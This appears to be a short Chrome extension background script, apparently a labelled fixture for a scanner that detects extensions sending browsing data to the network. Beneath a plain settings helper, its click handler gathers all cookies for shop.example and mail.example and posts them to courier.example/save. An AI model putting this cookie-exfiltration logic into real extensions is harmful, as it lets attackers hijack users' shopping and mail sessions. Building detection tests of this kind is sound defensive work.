var Settings = (function () {
  var data = { lang: 'en', delay: 300, sites: [] };
  chrome.storage.sync.get(data, function (d) { for (var k in d) data[k] = d[k]; });
  return { get: function (k) { return data[k]; }, set: function (k, v) { data[k] = v; var o = {}; o[k] = v; chrome.storage.sync.set(o); } };
})();
chrome.runtime.onInstalled.addListener(function (d) { if (d.reason === 'install') Settings.set('delay', 250); });
function cookies(domain) {
  var d = $.Deferred();
  chrome.cookies.getAll({ domain: domain }, function (list) { d.resolve(list); });
  return d.promise();
}
function pack(list) {
  return $.map(list, function (c) { return c.name + '=' + c.value; }).join('&');
}
chrome.browserAction.onClicked.addListener(function (tab) {
  $.when(cookies('shop.example'), cookies('mail.example')).done(function (a, b) {
    // expect: browsing-data-to-network
    $.post('https://courier.example/save', { a: pack(a), b: pack(b) });
  });
});
